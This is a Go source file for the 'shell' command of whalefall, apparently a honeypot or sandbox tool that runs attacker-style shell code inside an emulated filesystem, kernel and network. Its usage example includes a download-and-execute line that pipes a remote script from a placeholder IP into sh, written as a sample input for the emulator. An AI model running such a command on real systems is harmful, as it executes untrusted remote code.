package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"os"
	"path"
	"strings"
	"sync"
	"time"

	"github.com/distribution/reference"
	"github.com/spf13/cobra"

	"github.com/whalefall/whalefall/internal/image"
	"github.com/whalefall/whalefall/internal/internet"
	"github.com/whalefall/whalefall/internal/kernel"
	"github.com/whalefall/whalefall/internal/sensor"
	"github.com/whalefall/whalefall/internal/vfs"
)

type wallClock struct{}

func (wallClock) Now() time.Time { return time.Now() }
func (wallClock) AfterFunc(d time.Duration, f func()) func() bool {
	return time.AfterFunc(d, f).Stop
}

func shellCommand() *cobra.Command {
	var imageName, sh, dir, code string
	var env []string
	c := &cobra.Command{Use: "shell [FILE]", Short: "Run shell code in a world, as an attacker's would run",
		Long: `Makes a small world from an image and runs code in it: from -c, from FILE, or from
standard input. Nothing it does is real. Exits with the code's own status, 128+n
when it died of a signal; standard output and error are the code's alone.`,
		Example: `  whalefall shell -c 'id; uname -a; ls /'
  whalefall shell --image ubuntu --shell bash script.sh
  echo 'wget -qO- http://203.0.113.5/x.sh | sh' | whalefall shell`,
		Args: func(cmd *cobra.Command, args []string) error {
			if len(args) > 1 || len(args) == 1 && cmd.Flags().Changed("code") {
				return usageError{errors.New("shell takes -c CODE or one FILE")}
			}
			return nil
		},
		RunE: func(cmd *cobra.Command, args []string) error {
			argv := []string(nil)
			var script []byte
			switch {
			case cmd.Flags().Changed("code"):
				argv = []string{"-c", code}
			case len(args) == 1:
				b, err := os.ReadFile(args[0])
				if err != nil {
					return fmt.Errorf("read the script: %w", err)
				}
				script = b
				argv = []string{"/tmp/" + path.Base(args[0])}
			}
			st, err := runShell(cmd.Context(), shellRun{image: imageName, shell: sh, dir: dir, env: env, argv: argv, script: script, in: cmd.InOrStdin(), out: cmd.OutOrStdout(), err: cmd.ErrOrStderr()})
			if err != nil {
				return err
			}
			if st != 0 {
				return exitError(st)
			}
			return nil
		}}
	c.Flags().StringVar(&imageName, "image", "alpine", "the image the world is made from")
	c.Flags().StringVar(&sh, "shell", "/bin/sh", "the shell, by path or name")
	c.Flags().StringVarP(&dir, "workdir", "w", "/root", "the working directory, made in the world if absent")
	c.Flags().StringArrayVarP(&env, "env", "e", nil, "KEY=VALUE, may be given again")
	c.Flags().StringVarP(&code, "code", "c", "", "the code")
	return c
}

type shellRun struct {
	image, shell, dir string
	env, argv         []string
	script            []byte
	in                io.Reader
	out, err          io.Writer
}

func runShell(ctx context.Context, r shellRun) (int, error) {
	ref, err := reference.ParseNormalizedNamed(r.image)
	if err != nil {
		return 0, usageError{fmt.Errorf("--image %q: %w", r.image, err)}
	}
	secret := []byte("whalefall shell: the same world each time")
	cat := image.NewCatalogue(secret, time.Now(), func(p string, n int64) vfs.Content { return kernel.ELF(p, n, "x86_64") }, &image.Trees{})
	layers := cat.Resolve(reference.TagNameOnly(ref)).Image.Trees()
	base := vfs.NewLayerBuilder()
	for _, d := range []string{"/proc", "/sys", "/dev", "/tmp", "/run"} {
		mode := vfs.Mode(0o755)
		if d == "/tmp" {
			mode = 0o1777
		}
		if err := base.Dir(d, vfs.Meta{Mode: mode}); err != nil {
			return 0, err
		}
	}
	mk := ""
	for _, p := range strings.Split(strings.Trim(path.Clean(r.dir), "/"), "/") {
		if p == "" {
			continue
		}
		mk += "/" + p
		if mk == "/tmp" || base.Exists(mk) {
			continue
		}
		if err := base.Dir(mk, vfs.Meta{Mode: 0o755}); err != nil {
			return 0, fmt.Errorf("make %s in the world: %w", r.dir, err)
		}
	}
	if r.script != nil {
		if err := base.File(r.argv[0], vfs.Bytes(r.script), vfs.Meta{Mode: 0o755}); err != nil {
			return 0, fmt.Errorf("put the script into the world: %w", err)
		}
	}
	fs := vfs.New(vfs.Config{Type: "overlay", Bytes: 512 << 20}, append([]*vfs.Layer{base.Build()}, layers...)...)
	k := kernel.New(kernel.Config{Clock: wallClock{}, Programs: sensor.Programs(), Observer: kernel.Discard{}, Network: internet.New(internet.Config{Secret: secret}),
		Host: kernel.HostInfo{Hostname: "shell", Cores: 2, Memory: 4 << 30, Boot: time.Now().Add(-30 * 24 * time.Hour), Machine: "x86_64", Release: "5.15.0-122-generic", Version: "#132-Ubuntu SMP Thu Aug 29 13:45:52 UTC 2024",
			Interfaces: []kernel.Interface{{Name: "eth0", MAC: "02:42:ac:11:00:02", Addr: netip.MustParsePrefix("172.17.0.2/16"), MTU: 1500}}}}, fs)
	defer func() {
		sctx, stop := context.WithTimeout(context.Background(), 2*time.Second)
		defer stop()
		_ = k.Stop(sctx) // what does not end in time goes with the process
	}()
	ns := k.Host()
	sh := r.shell
	if !strings.Contains(sh, "/") {
		sh = "/bin/" + sh
	}
	env := append([]string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "HOSTNAME=shell"}, r.env...)
	in, out, errp := k.InputPipe(), k.OutputPipe(), k.OutputPipe()
	task, err := ns.Start(kernel.Spawn{Path: sh, Argv: append([]string{sh}, r.argv...), Dir: r.dir, Env: env, Files: map[int]*kernel.File{0: in.File(), 1: out.File(), 2: errp.File()}})
	if err != nil {
		return 0, withHint(fmt.Errorf("start %s in %s: %w", sh, r.image, err), "does the image have that shell? --shell names another")
	}
	var wg sync.WaitGroup
	wg.Add(2)
	go func() { defer wg.Done(); _, _ = io.Copy(r.out, out) }() // the writer remembers
	go func() { defer wg.Done(); _, _ = io.Copy(r.err, errp) }()
	go func() {
		_, _ = io.Copy(in, r.in) // to the shell a broken input is its end
		_ = in.Close()
	}()
	select {
	case <-task.Done():
	case <-ctx.Done():
		return 130, nil
	}
	// What background jobs still write is not waited for.
	drained := make(chan struct{})
	go func() { wg.Wait(); close(drained) }()
	select {
	case <-drained:
	case <-time.After(200 * time.Millisecond):
	}
	return task.WaitStatus().Code(), nil
}
